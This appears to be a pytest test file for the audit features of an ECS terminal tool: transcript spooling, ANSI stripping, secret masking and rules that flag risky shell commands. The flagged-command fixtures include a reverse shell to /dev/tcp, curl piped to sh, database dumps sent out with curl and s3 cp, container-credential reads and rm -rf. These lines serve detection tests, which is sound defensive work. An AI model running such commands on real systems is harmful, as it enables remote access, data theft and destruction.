"""Parts of transcripts: the spool, plain text, marks, masks, typed commands, recordings."""

from __future__ import annotations

import asyncio
import json
import time
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from ecs_tui.audit.marked_sessions import MAX_TRANSCRIPT_BYTES, marks_in, transcript_flags
from ecs_tui.audit.marks import DEFAULT_MARKS, MarkPattern, MarkRules, chosen_marks
from ecs_tui.audit.masks import broken_spans, masked, secret_spans
from ecs_tui.audit.plain import plain, plain_lines
from ecs_tui.audit.reading import TranscriptPiece, read
from ecs_tui.audit.spool import MAX_SEGMENT_BYTES, SEGMENT_BYTES, TranscriptSpool
from ecs_tui.audit.transcript_places import places_of_cluster
from ecs_tui.audit.transcript_search import fitting_lines, insights_query, searches
from ecs_tui.audit.typed import typed_command
from ecs_tui.aws.account import Account
from ecs_tui.errors import AwsError
from ecs_tui.model.log_source import LogGroupRef
from ecs_tui.model.transcript import RecordedTranscript
from ecs_tui.store.audit_feed import AuditFeed

# -- the spool


@pytest.fixture(autouse=True)
def own_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path))


def spooled(data: bytes, piece: int = 10_000) -> TranscriptSpool:
    spool = TranscriptSpool()
    for start in range(0, len(data), piece):
        spool.append(data[start : start + piece])
    spool.finish()
    return spool


def test_segments_are_whole_lines_and_hold_every_byte(tmp_path: Path) -> None:
    data = b"".join(b"line %06d with some text\r\n" % number for number in range(20_000))
    spool = spooled(data)
    parts = list(spool.pieces())
    assert b"".join(parts) == data and spool.size == len(data)
    assert all(part.endswith(b"\n") for part in parts)
    assert all(len(part) <= SEGMENT_BYTES + 100 for part in parts) and len(parts) > 5
    assert [each.start for each in spool.segments[1:]] == [each.end for each in spool.segments[:-1]]
    assert list((tmp_path / "ecs-tui" / "transcripts").iterdir()) == [], "the file has no name"


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"no end of line",
        b"x" * (3 * MAX_SEGMENT_BYTES),
        b"\n" * 200_000,
        b"\x1b[?1049h" + b"screen\r\n" * 200_000,
        b"\x1b[?1049h\x1b[?1049l\r\n" * 20_000,
    ],
    ids=["empty", "no line", "one long line", "empty lines", "screen without end", "screens"],
)
def test_hostile_bytes_are_cut_all_the_same(data: bytes) -> None:
    spool = spooled(data)
    parts = list(spool.pieces())
    assert b"".join(parts) == data
    assert all(len(part) <= MAX_SEGMENT_BYTES + 10_000 for part in parts)
    spool.close()


def test_a_full_screen_program_is_not_cut_in_two() -> None:
    before = (
        b"a line of text that is longer\r\n" * 1_900
    )  # the limit is within the screen that follows
    screen = b"\x1b[?1049h" + b"row of the editor\r\n" * 3_000 + b"\x1b[?1049l"
    spool = spooled(before + screen + b"after\r\n" * 10_000)
    parts = list(spool.pieces())
    begins, ends = ([part.count(b"\x1b[?1049" + end) for part in parts] for end in (b"h", b"l"))
    assert begins == ends and sum(begins) == 1 and len(parts) > 2


# -- text


@pytest.mark.parametrize(
    ("raw", "text"),
    [
        (b"plain", "plain"),
        (b"\x1b[1;31mred\x1b[0m\r", "red"),
        (b"ehc\b\b\bec\x1b[Kho", "echo"),
        (b"100%\r 50%", " 50%"),
        (b"\x1b]0;title\x07$ ls", "$ ls"),
        (b"\x1b[?2004h# id", "# id"),
        ("漢字".encode(), "漢字"),
        (b"a\xffb", "a\ufffdb"),
        ("x\u202ey".encode(), "x\ufffdy"),
        (b"a\tb\x07\x00", "a    b"),
    ],
)
def test_the_text_of_a_line(raw: bytes, text: str) -> None:
    assert plain(raw) == text


def test_lines_know_where_they_begin() -> None:
    lines = plain_lines(b"one\r\n\x1b[1mtwo\x1b[0m\r\n", start=100)
    assert [(each.offset, each.text) for each in lines] == [(100, "one"), (105, "two")]


# -- marks

NOTABLE = [
    ("dump", "# pg_dump -h $DB_HOST orders > /tmp/x.sql"),
    ("dump", "orders=> COPY customers TO STDOUT"),
    ("upload", "$ aws s3 cp /tmp/x.sql s3://elsewhere/"),
    ("upload", "# curl -X POST --data @x.sql https://example.net"),
    ("delete", "# rm -rf /var/lib/data"),
    ("sql-change", "[web/app 1] # UPDATE orders SET status = 'paid' WHERE id = 1;"),
    ("sql-change", "orders=# delete from carts;"),
    ("secret", "# env"),
    ("secret", "# cat /run/secrets/database"),
    ("secret", "# curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI"),
    ("install", "# apt-get install -y tcpdump"),
    ("install", "# pip install requests"),
    ("download-and-run", "# curl -s https://example.net/x.sh | sh"),
    ("shell-elsewhere", "# ssh ops@bastion"),
    ("shell-elsewhere", "# bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"),
    ("process", "# kill -9 1"),
]  # fmt: skip
QUIET = [
    "# ls -la", "# cat /etc/hosts", "# environment", "updated 3 rows", "# grep skill notes",
    "# tail -f app.log", "# ps aux", "apt list", "SELECT count(*) FROM orders;",
]  # fmt: skip


@pytest.mark.parametrize(("name", "line"), NOTABLE)
def test_what_stands_out(name: str, line: str) -> None:
    mark = MarkRules().mark(line)
    assert mark is not None and mark.name == name and mark.reason.endswith(".")
    assert line[mark.start : mark.end]


@pytest.mark.parametrize("line", QUIET)
def test_what_does_not(line: str) -> None:
    assert MarkRules().mark(line) is None


def test_marks_of_ones_own_come_first() -> None:
    own = MarkPattern("payroll", "payroll", "The payroll table was read.")
    changed = MarkPattern("secret", "vault read", "A secret was read.")
    mine = {each.name: (each.pattern, each.reason) for each in (own, changed)}
    rules = chosen_marks(mine, declared=True)
    assert rules.fingerprint != MarkRules().fingerprint == MarkRules().fingerprint
    assert len(rules.patterns) == len(DEFAULT_MARKS) + 1
    found = rules.mark("SELECT * FROM payroll")
    assert found is not None and found.name == "payroll"
    assert rules.mark("# env") is None
    assert chosen_marks({"payroll": mine["payroll"]}, declared=False).patterns == (own,)
    with pytest.raises(ValueError, match="broken"):
        MarkRules([MarkPattern("broken", "(", "")])


@pytest.mark.parametrize(
    "word", ["curl ", "a.", "UPDATE a ", "-- --x=", "pass", "(", "eyJ", "rm -"]
)
def test_patterns_take_no_long_time_on_hostile_lines(word: str) -> None:
    line = (word * 20_000)[:20_000]
    began = time.process_time()
    MarkRules().mark(line)
    secret_spans(line)
    typed_command(line)
    assert time.process_time() - began < 2.0


# -- masks


@pytest.mark.parametrize(
    ("line", "shown"),
    [
        ("AWS_SECRET_ACCESS_KEY=abc/def", "AWS_SECRET_ACCESS_KEY=••••••••"),
        ("id AKIAIOSFODNN7EXAMPLE", "id ••••••••"),
        (
            f"/ssm/ecs-execute-command-{'aB3' * 13}.log",
            f"/ssm/ecs-execute-command-{'aB3' * 13}.log",
        ),
        (f"/ssm/other-{'aB3' * 13}.log", "/ssm/other-••••••••.log"),
        ("postgres://app:s3cr3t@db:5432/x", "postgres://••••••••@db:5432/x"),
        ('"password": "hunter2",', '"password": "••••••••",'),
        ("Authorization: Bearer abc.def", "Authorization: Bearer ••••••••"),
        ("token eyJhbGciOiJIUzI1.eyJzdWIiOiIx.sig", "token ••••••••"),
        ("IDENTIFIED BY 'x y'", "IDENTIFIED BY '••••••••'"),
        ("key wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "key ••••••••"),
        ("task 2037bdde101a8a4c5e77664858f84964", "task 2037bdde101a8a4c5e77664858f84964"),
        ("nothing secret", "nothing secret"),
    ],
)
def test_secrets_are_hidden(line: str, shown: str) -> None:
    assert masked(line) == shown
    assert masked(shown) == shown


LONG = "aB3" * 13


@pytest.mark.parametrize(
    "line",
    [
        "AWS_SECRET_ACCESS_KEY=abc/def", f"/ssm/ecs-execute-command-{LONG}.log", f"key {LONG}",
        "psql postgres://app:s3cr3t@db:5432/x", "mysql --password hunter2 -h db", "nothing secret",
        "Authorization: Bearer abc.def", f"ecs-execute-command-{LONG} password=hunter2",
    ],
)  # fmt: skip
def test_what_is_hidden_in_a_line_is_hidden_wherever_it_is_broken(line: str) -> None:
    whole = secret_spans(line)
    for width in range(3, len(line) + 1):
        rows = [line[at : at + width] for at in range(0, len(line), width)]
        found = [
            (number * width + start, number * width + end)
            for number, spans in enumerate(broken_spans(rows))
            for start, end in spans
        ]
        hidden = {at for start, end in found for at in range(start, end)}
        assert hidden == {at for start, end in whole for at in range(start, end)}, (width, rows)


def test_rows_that_only_look_like_one_line_hide_what_each_hides() -> None:
    rows = ["x" * 39 + "_", f"{LONG} is the key"]
    assert secret_spans("".join(rows)) == []
    assert broken_spans(rows) == [[], [(0, 39)]]
    assert broken_spans([]) == []


# -- typed commands


@pytest.mark.parametrize(
    ("line", "command"),
    [
        ("[web/app 1234567] # ls -la", "ls -la"),
        ("root@ip-10-0-0-1:/app# whoami", "whoami"),
        ("bash-5.1$ env", "env"),
        ("/app # cat x", "cat x"),
        ("# id", "id"),
        ("orders=> select 1;", "select 1;"),
        ("mysql> show tables;", "show tables;"),
        (">>> import os", "import os"),
        ("irb(main):001:0> User.count", "User.count"),
        ("# ", ""),
        ("total 12", ""),
        ("-rw-r--r-- 1 root root 218M /tmp/x", ""),
        ("#!/bin/sh", ""),
    ],
)
def test_typed_commands_are_guessed(line: str, command: str) -> None:
    assert typed_command(line) == command


# -- marks of whole transcripts


async def made_of(*data: bytes) -> AsyncIterator[TranscriptPiece]:
    for each in data:
        yield TranscriptPiece(each)


@pytest.mark.asyncio
async def test_marks_are_found_across_pieces_and_without_a_line_end() -> None:
    names, whole = await marks_in(made_of(b"# pg_", b"dump x\r\n# rm -rf", b" /tmp/x"), MarkRules())
    assert (names, whole) == (("dump", "delete"), True)
    assert await marks_in(made_of(), MarkRules()) == ((), True)


@pytest.mark.asyncio
async def test_a_long_transcript_is_read_to_its_bound_and_a_long_line_is_looked_at() -> None:
    piece = b"x" * (1 << 20)
    read_ = 0

    async def endless() -> AsyncIterator[TranscriptPiece]:
        nonlocal read_
        yield TranscriptPiece(b"\r\n# env\r\n" + piece + b"\n")
        while True:
            read_ += 1
            yield TranscriptPiece(piece)

    names, whole = await marks_in(endless(), MarkRules())
    assert (names, whole) == (("secret",), False)
    assert read_ == (MAX_TRANSCRIPT_BYTES >> 20) - 1, (
        "bytes are bounded, and the rest is not asked for"
    )


def test_marks_of_other_patterns_do_not_count() -> None:
    feed, rules = AuditFeed("1", "eu-west-1"), MarkRules()
    feed.note_marks("s", ("dump",), rules.fingerprint)
    (flag,) = transcript_flags(feed, rules)["s"]
    assert (flag.key, flag.title) == ("transcript:dump", "transcript: dump") and flag.reason
    other = chosen_marks({"x": ("x", "X.")}, declared=True)
    assert transcript_flags(feed, other) == {}
    feed.note_marks("t", (), other.fingerprint)
    assert feed.marks(rules.fingerprint) == {} and dict(feed.marks(other.fingerprint)) == {"t": ()}


# -- recordings, search


async def pieces(path: Path) -> list[TranscriptPiece]:
    def no_account(_: str) -> Account:
        raise AssertionError

    return [each async for each in read(RecordedTranscript(str(path)), no_account)]


@pytest.mark.asyncio
async def test_a_recording_is_read_with_its_timing(tmp_path: Path) -> None:
    path = tmp_path / "x.cast"
    header = {"version": 2, "width": 100, "height": 30}
    lines: list[object] = [header, [0.5, "o", "a\r\n"], [1.0, "r", "80x24"], [2.0, "o", "ü"], ["x"]]
    lines += [[3.0, "i", "typed"], "text", [4, "o", "b"]]
    path.write_text("\n".join([*(json.dumps(each) for each in lines), "{not json"]))
    found = await pieces(path)
    assert found[0].size == (100, 30)
    assert [(each.at, each.data) for each in found if each.data] == [
        (0.5, b"a\r\n"), (2.0, "ü".encode()), (4.0, b"b"),
    ]  # fmt: skip
    assert [each.size for each in found if not each.data] == [(100, 30), (80, 24)]
    path.write_text("not a recording\n")
    with pytest.raises(AwsError, match="no recording"):
        await pieces(path)


def test_queries_and_lines_of_a_search() -> None:
    assert "filter @message like /(?i)a\\.b\\/c/" in insights_query("a.b/c")
    data = b"one\r\n\x1b[1mSELECT\x1b[0m * FROM customers\r\nother\r\n"
    assert fitting_lines(data, "select * from") == ["SELECT * FROM customers"]
    account = Account(None, "eu-west-1")
    group = LogGroupRef("/x", "eu-west-1", "1")
    made = searches(lambda _: account, [group, ("eu-west-1", "b", "p")], "t", 0, 1)
    assert [type(each).__name__ for each in made] == [
        "GroupTranscriptSearch",
        "BucketTranscriptSearch",
    ]
    assert asyncio.iscoroutinefunction(places_of_cluster)
